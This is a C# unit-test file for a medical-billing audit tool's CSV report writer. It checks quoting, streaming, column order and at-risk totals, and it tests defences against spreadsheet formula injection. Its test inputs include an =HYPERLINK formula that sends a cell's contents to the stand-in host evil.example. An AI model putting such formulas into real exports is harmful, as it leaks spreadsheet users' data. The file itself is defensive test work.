using System.Globalization;
using System.Text;
using System.Text.Json;
using ClaimAudit.Core.Ingest;
using ClaimAudit.Core.Model;
using ClaimAudit.Core.Payers;
using ClaimAudit.Core.Reporting;
using nietras.SeparatedValues;
using static ClaimAudit.Core.Tests.Reporting.ReportSamples;

namespace ClaimAudit.Core.Tests.Reporting;

public class ReportCsvTests
{
    // Issue 13: the columns a spreadsheet user filters on, the visit first, then its line, then the finding and its dollars.
    private const string Header =
        "visit_id,patient_id,date_of_service,payer_id,provider,code,row,billed_units,computed_units,minutes,billed_modifiers,required_modifiers," +
        "rule_id,title,severity,fixed_by,message,fix,amount,at_risk,line_control,location";

    private static async Task<byte[]> WriteAsync(AuditReport report)
    {
        using var stream = new MemoryStream();
        await ReportCsv.WriteAsync(stream, report);
        return stream.ToArray();
    }

    /// <summary>Reads the CSV back with Sep (unescaping RFC 4180 quotes), one dictionary per record.</summary>
    internal static List<Dictionary<string, string>> ReadBack(byte[] bytes)
    {
        using var reader = Sep.Reader(o => o with { Unescape = true }).From(new MemoryStream(bytes));
        var rows = new List<Dictionary<string, string>>();
        var names = reader.Header.ColNames;
        foreach (var row in reader)
        {
            var record = new Dictionary<string, string>(StringComparer.Ordinal);
            foreach (var name in names) record[name] = row[name].ToString();
            rows.Add(record);
        }
        return rows;
    }

    [Fact]
    public async Task Starts_with_a_utf8_bom_and_the_header_and_ends_every_record_with_crlf()
    {
        var bytes = await WriteAsync(Realistic());

        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        Assert.StartsWith(Header + "\r\n", text);
        Assert.EndsWith("\r\n", text);
        // The sample has no embedded newlines, so every LF must be part of a CRLF.
        Assert.DoesNotContain("\n", text.Replace("\r\n", ""));
        Assert.Equal(Header.Split(','), ReportCsv.Columns);
    }

    [Fact]
    public async Task Writes_a_row_per_finding_a_clean_row_per_clean_visit_and_a_row_per_rejected_row()
    {
        var rows = ReadBack(await WriteAsync(Realistic()));

        // V-1001: 3 findings, V-1002: clean, V-1003: 1 finding, V-1004: clean, then rows 7 and 12 rejected.
        Assert.Equal(
            ["V-1001", "V-1001", "V-1001", "V-1002", "V-1003", "V-1004", "", ""],
            rows.Select(r => r["visit_id"]));
        Assert.Equal(
            ["PTP_MODIFIER_MISSING", "UNITS_OVERBILLED", "DOC_MEASURE_MISSING", "", "UNITS_UNDERBILLED", "", "REJECTED_ROW", "REJECTED_ROW"],
            rows.Select(r => r["rule_id"]));
        Assert.Equal(["error", "error", "warning", "clean", "warning", "clean", "error", "error"], rows.Select(r => r["severity"]));

        var first = rows[0];
        Assert.Equal("P-77", first["patient_id"]);
        Assert.Equal("2026-03-04", first["date_of_service"]);
        Assert.Equal("commercial-ama", first["payer_id"]);
        Assert.Equal("97110", first["code"]);
        Assert.Equal("1234.56", first["amount"]);
        Assert.Equal("2", first["row"]); // the finding names no row: its line's first row
        Assert.Equal("0.00", first["at_risk"]); // the hand-built finding carries no at-risk share
        Assert.Equal("Add 59 (or XS/XU) to 97110 if the services were distinct; otherwise bill only 97112.", first["fix"]);

        Assert.Equal("P-78", rows[3]["patient_id"]);
        Assert.Equal("", rows[3]["amount"]);
        Assert.Equal(("", "", ""), (rows[3]["at_risk"], rows[3]["title"], rows[3]["code"]));

        Assert.Equal("7", rows[6]["row"]);
        Assert.Equal("missing visit_id; minutes must be an integer 0..600", rows[6]["message"]);
        Assert.Equal("12", rows[7]["row"]);
        Assert.Equal("unknown payer 'acme'", rows[7]["message"]);
    }

    [Fact]
    public async Task Quotes_commas_quotes_and_newlines_per_rfc_4180_and_they_read_back_unchanged()
    {
        const string message = "Note says \"20 min\", line says 24,\r\nsecond line\nthird";
        var report = Realistic([Visit("V,1", "P\"2", "medicare", "warning", [], [Finding("DOC_TIME_MISMATCH", "warning", "97112", message, "Fix, then \"re-check\"", 0m)])]);

        var bytes = await WriteAsync(report);
        var text = Encoding.UTF8.GetString(bytes);

        Assert.Contains("\"V,1\",\"P\"\"2\",", text);
        Assert.Contains("\"Note says \"\"20 min\"\", line says 24,\r\nsecond line\nthird\"", text);
        var row = ReadBack(bytes)[0];
        Assert.Equal("V,1", row["visit_id"]);
        Assert.Equal("P\"2", row["patient_id"]);
        Assert.Equal(message, row["message"]);
        Assert.Equal("Fix, then \"re-check\"", row["fix"]);
        Assert.Equal("0.00", row["amount"]);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")")]
    [InlineData("+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\tcmd")]
    [InlineData("\rcmd")]
    public async Task Neutralises_cells_a_spreadsheet_would_evaluate_as_a_formula(string hostile)
    {
        // OWASP CSV injection: cells starting with = + - @ TAB CR get a leading single quote.
        var report = Realistic([Visit(hostile, hostile, hostile, "error", [], [Finding(hostile, "error", hostile, hostile, hostile, 5m)])]);
        report = new AuditReport
        {
            BatchId = report.BatchId, ClinicId = report.ClinicId, GeneratedAt = report.GeneratedAt, Summary = report.Summary,
            Visits = report.Visits, RejectedRows = [new RejectedRow(3, [hostile])], FileError = hostile,
        };

        var rows = ReadBack(await WriteAsync(report));

        Assert.Equal(3, rows.Count); // file error, the finding, the rejected row
        Assert.Equal("'" + hostile, rows[0]["message"]); // the file error row
        foreach (var column in new[] { "visit_id", "patient_id", "payer_id", "code", "rule_id", "message", "fix" })
            Assert.Equal("'" + hostile, rows[1][column]);
        Assert.Equal("5.00", rows[1]["amount"]);
        Assert.Equal("'" + hostile, rows[2]["message"]); // the rejected row's reason
    }

    [Fact]
    public async Task Keeps_amounts_numeric_a_negative_amount_is_a_number_not_a_neutralised_formula()
    {
        var report = Realistic([Visit("V-1", "P-1", "medicare", "warning", [], [Finding("UNITS_UNDERBILLED", "warning", "97110", "-1 unit", "bill more", -1234.5m)])]);

        var rows = ReadBack(await WriteAsync(report));

        // The amount is written from a decimal with invariant formatting: Excel reads "-1234.50" as a number.
        Assert.Equal("-1234.50", rows[0]["amount"]);
        Assert.Equal("'-1 unit", rows[0]["message"]); // text from the input still gets neutralised
    }

    [Fact]
    public async Task Harmless_text_is_not_prefixed()
    {
        Assert.Equal("V-1001", ReportCsv.Neutralise("V-1001"));
        Assert.Equal("a=b", ReportCsv.Neutralise("a=b"));
        Assert.Equal("", ReportCsv.Neutralise(null));
        var rows = ReadBack(await WriteAsync(Realistic()));
        Assert.DoesNotContain(rows, r => r.Values.Any(v => v.StartsWith('\'')));
    }

    [Fact]
    public async Task An_unreadable_file_gets_a_file_error_row_and_an_empty_batch_still_gets_its_header()
    {
        var failed = await WriteAsync(Empty("no header row: the first line is empty"));
        var rows = ReadBack(failed);
        var row = Assert.Single(rows);
        Assert.Equal("FILE_ERROR", row["rule_id"]);
        Assert.Equal("error", row["severity"]);
        Assert.Equal("no header row: the first line is empty", row["message"]);

        var empty = Encoding.UTF8.GetString(await WriteAsync(Empty()));
        Assert.Equal("\uFEFF" + Header + "\r\n", empty);
    }

    [Fact]
    public async Task Enumerates_the_lazy_visits_once_and_streams_rows_while_visits_are_still_coming()
    {
        using var stream = new MemoryStream();
        long writtenWhenLastVisitPulled = -1;
        const int count = 3000;
        var visits = new SinglePassVisits(
            Enumerable.Range(0, count).Select(i => Visit($"V-{i}", "P-1", "medicare", "warning", [],
                [Finding("DOC_MEASURE_MISSING", "warning", "97112", "The note names no objective measure with a number.", "Add a measure.", 0m)])),
            onYield: i => { if (i == count - 1) writtenWhenLastVisitPulled = stream.Length; });

        await ReportCsv.WriteAsync(stream, Realistic(visits));

        Assert.Equal(1, visits.Enumerations);
        Assert.True(writtenWhenLastVisitPulled > 0, "rows were held back until every visit had been evaluated");
        Assert.Equal(count + 2, ReadBack(stream.ToArray()).Count);
    }

    [Fact]
    public async Task Leaves_the_output_stream_open_for_the_caller()
    {
        using var stream = new MemoryStream();
        await ReportCsv.WriteAsync(stream, Realistic());
        Assert.True(stream.CanWrite);
    }

    [Fact]
    public async Task Writes_only_asynchronously_so_it_can_stream_to_an_http_response()
    {
        using var stream = new AsyncOnlyStream();
        var visits = Enumerable.Range(0, 500).SelectMany(_ => RealisticVisits());

        await ReportCsv.WriteAsync(stream, Realistic(visits));

        Assert.True(stream.Length > 100_000);
    }

    [Fact]
    public async Task The_header_names_the_visit_its_line_the_finding_and_its_dollars_in_that_order()
    {
        var text = Encoding.UTF8.GetString(await WriteAsync(Realistic())).TrimStart('\uFEFF');

        var header = text[..text.IndexOf("\r\n", StringComparison.Ordinal)];
        Assert.Equal(
            ["visit_id", "patient_id", "date_of_service", "payer_id", "provider", "code", "row", "billed_units", "computed_units", "minutes",
             "billed_modifiers", "required_modifiers", "rule_id", "title", "severity", "fixed_by", "message", "fix", "amount", "at_risk",
             "line_control", "location"],
            header.Split(','));
    }

    [Fact]
    public async Task A_finding_on_one_row_of_a_merged_line_shows_that_row_and_its_own_lines_cells()
    {
        // 97110 twice: a PT line merged from rows 3 and 5 and an assistant's line on row 7 (a line of its own).
        var pt = new LineReport
        {
            Code = "97110", Rows = [3, 5], Minutes = 38, CountedMinutes = 38, BilledUnits = 4, ComputedUnits = 3,
            BilledModifiers = ["GP"], RequiredModifiers = ["GP", "59"], Provider = "Dr Ada Lane",
        };
        var assistant = new LineReport
        {
            Code = "97110", Rows = [7], Minutes = 15, CountedMinutes = 15, BilledUnits = 1, ComputedUnits = 1,
            BilledModifiers = ["GP", "CQ"], RequiredModifiers = ["GP", "CQ"], Provider = "Sam Ortiz PTA",
        };
        var report = Realistic([Visit("V-1", "P-1", "medicare", "error", [pt, assistant],
        [
            new FindingReport { RuleId = "PTP_MODIFIER_MISSING", Severity = "error", Code = "97110", Row = 5, Message = "no 59", Fix = "add 59", Amount = 29.50m },
            new FindingReport { RuleId = "UNITS_OVERBILLED", Severity = "error", Code = "97110", Message = "4 for 3", Fix = "bill 3", Amount = 29.50m },
            new FindingReport { RuleId = "MOD_ASSISTANT_MISSING", Severity = "error", Code = "97110", Row = 7, Message = "CQ", Fix = "add CQ", Amount = 25.08m },
            new FindingReport { RuleId = "POC_NOT_CERTIFIED", Severity = "error", Message = "not certified", Fix = "certify", Amount = 100m },
        ])]);

        var rows = ReadBack(await WriteAsync(report));

        var onRow = rows.Single(r => r["rule_id"] == "PTP_MODIFIER_MISSING");
        Assert.Equal(("5", "Dr Ada Lane", "4", "3", "38", "GP", "GP;59"),
            (onRow["row"], onRow["provider"], onRow["billed_units"], onRow["computed_units"], onRow["minutes"], onRow["billed_modifiers"], onRow["required_modifiers"]));
        // A finding on the whole merged line is at its first row.
        var onLine = rows.Single(r => r["rule_id"] == "UNITS_OVERBILLED");
        Assert.Equal(("3", "Dr Ada Lane", "4"), (onLine["row"], onLine["provider"], onLine["billed_units"]));
        // Row 7 is the assistant's line, not the first 97110 line.
        var onAssistant = rows.Single(r => r["rule_id"] == "MOD_ASSISTANT_MISSING");
        Assert.Equal(("7", "Sam Ortiz PTA", "1", "1", "15", "GP;CQ"),
            (onAssistant["row"], onAssistant["provider"], onAssistant["billed_units"], onAssistant["computed_units"], onAssistant["minutes"], onAssistant["billed_modifiers"]));
        // A finding on the visit has no line: its line cells are blank, and its provider is the visit's (its first
        // line's), as the HTML page counts it in the per-provider view.
        var onVisit = rows.Single(r => r["rule_id"] == "POC_NOT_CERTIFIED");
        Assert.All(new[] { "code", "row", "billed_units", "computed_units", "minutes", "billed_modifiers", "required_modifiers" },
            c => Assert.Equal("", onVisit[c]));
        Assert.Equal("Dr Ada Lane", onVisit["provider"]);
    }

    private static readonly AuditEngine Engine = new(PayerProfileSet.Shipped);

    /// <summary>A batch as a user sends it, through ingest and the engine, written as JSON (schema 2) and CSV in one pass.</summary>
    private static async Task<(JsonDocument Json, List<Dictionary<string, string>> Csv)> AuditAsync(string batchText)
    {
        using var input = new MemoryStream(Encoding.UTF8.GetBytes(batchText));
        var batch = Engine.Ingest(input, InputFormat.Csv);
        using var outcome = await Engine.EvaluateAsync(batch, historyFor: null, "b-1", "clinic-1", DateTimeOffset.UnixEpoch);
        using var json = new MemoryStream();
        using var csv = new MemoryStream();
        var sinks = new List<ReportSink> { ReportFormat.Json.Start(json, outcome.Report), ReportFormat.Csv.Start(csv, outcome.Report) };
        await ReportWriter.WriteAsync(outcome.Report, sinks);
        foreach (var sink in sinks) await sink.DisposeAsync();
        return (JsonDocument.Parse(json.ToArray()), ReadBack(csv.ToArray()));
    }

    [Fact]
    public async Task The_provider_cell_comes_from_the_provider_column_with_the_lines_units_minutes_and_modifiers()
    {
        // 30 min of 97110 supports 2 units (medicare, CMS); 3 are billed → UNITS_OVERBILLED on the line of row 2.
        var (json, rows) = await AuditAsync(
            "visit_id,patient_id,date_of_service,payer_id,cpt_code,minutes,provider_role,one_on_one,billed_units,billed_modifiers,provider\n" +
            "V-1,P-1,2026-03-02,medicare,97110,30,PT,Y,3,GP,Dr Ada Lane\n");
        using var _ = json;

        var over = rows.Single(r => r["rule_id"] == RuleIds.UnitsOverbilled);
        Assert.Equal(("Dr Ada Lane", "97110", "2", "3", "2", "30", "GP", "GP"),
            (over["provider"], over["code"], over["row"], over["billed_units"], over["computed_units"], over["minutes"], over["billed_modifiers"], over["required_modifiers"]));
    }

    [Fact]
    public async Task A_billing_rule_and_a_therapist_rule_carry_their_title_and_who_fixes_them()
    {
        var rows = ReadBack(await WriteAsync(Realistic()));

        var units = rows.Single(r => r["rule_id"] == "UNITS_OVERBILLED");
        Assert.Equal(("Units over the time documented", "billing"), (units["title"], units["fixed_by"]));
        var measure = rows.Single(r => r["rule_id"] == "DOC_MEASURE_MISSING");
        Assert.Equal(("No objective measure in the note", "clinician"), (measure["title"], measure["fixed_by"]));
        var rejected = rows.First(r => r["rule_id"] == ReportCsv.RejectedRowRuleId);
        Assert.Equal(("Row not audited", "billing"), (rejected["title"], rejected["fixed_by"]));
    }

    [Fact]
    public async Task Summing_at_risk_over_the_sample_batch_gives_the_summarys_revenue_at_risk()
    {
        var sample = File.ReadAllText(Path.Combine(AppContext.BaseDirectory, "Samples", "visits.csv"));
        var (json, rows) = await AuditAsync(sample);
        using var _ = json;
        var atRisk = json.RootElement.GetProperty("summary").GetProperty("revenue").GetProperty("atRisk").GetDecimal();

        // As a spreadsheet's SUM would: numbers added, blank cells skipped.
        var sum = rows.Where(r => r["at_risk"].Length > 0).Sum(r => decimal.Parse(r["at_risk"], NumberStyles.Number, CultureInfo.InvariantCulture));

        Assert.True(atRisk > 0, "the sample has claims at risk");
        Assert.Equal(atRisk, sum);
        // amount is each finding's own dollars, so it over-counts lines with more than one finding.
        var amounts = rows.Where(r => r["amount"].Length > 0).Sum(r => decimal.Parse(r["amount"], NumberStyles.Number, CultureInfo.InvariantCulture));
        Assert.NotEqual(atRisk, amounts);
        // Every finding row has an at_risk number (0.00 when it carries none); rows that are no finding have none.
        Assert.All(rows.Where(r => r["rule_id"] is not ("" or ReportCsv.RejectedRowRuleId or ReportCsv.NotReviewedRuleId or ReportCsv.FileErrorRuleId)
                                   && !r["rule_id"].StartsWith("EPISODE_", StringComparison.Ordinal) && r["rule_id"] != ReportCsv.UnitsNotCheckedRuleId),
            r => Assert.NotEqual("", r["at_risk"]));
        Assert.All(rows.Where(r => r["severity"] == ReportCsv.CleanSeverity), r => Assert.Equal("", r["at_risk"]));
    }

    [Fact]
    public async Task A_rejected_row_keeps_its_visit_id_and_its_fix_speaks_to_the_cli_user_too()
    {
        var report = Realistic([]);
        report = new AuditReport
        {
            BatchId = report.BatchId, ClinicId = report.ClinicId, GeneratedAt = report.GeneratedAt, Summary = report.Summary,
            Visits = [], RejectedRows = [new RejectedRow(4, ["minutes must be an integer 0..600"]) { VisitId = "V-1009" }, new RejectedRow(7, ["missing visit_id"])],
        };

        var rows = ReadBack(await WriteAsync(report));

        Assert.Equal(["V-1009", ""], rows.Select(r => r["visit_id"]));
        Assert.Equal("4", rows[0]["row"]);
        Assert.Contains("claimaudit audit", rows[0]["fix"], StringComparison.Ordinal);
        Assert.Contains("upload", rows[0]["fix"], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Neutralises_a_provider_and_modifiers_from_the_input()
    {
        const string hostile = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")";
        var line = new LineReport
        {
            Code = "97110", Rows = [2], Minutes = 30, BilledUnits = 2, ComputedUnits = 2,
            BilledModifiers = [hostile, "GP"], RequiredModifiers = ["GP"], Provider = hostile,
        };
        var report = Realistic([Visit("V-1", "P-1", "medicare", "error", [line],
            [Finding("MOD_DISCIPLINE_MISSING", "error", "97110", "no GP", "add GP", 59m)])]);

        var row = ReadBack(await WriteAsync(report))[0];

        Assert.Equal("'" + hostile, row["provider"]);
        Assert.Equal("'" + hostile + ";GP", row["billed_modifiers"]);
    }
}
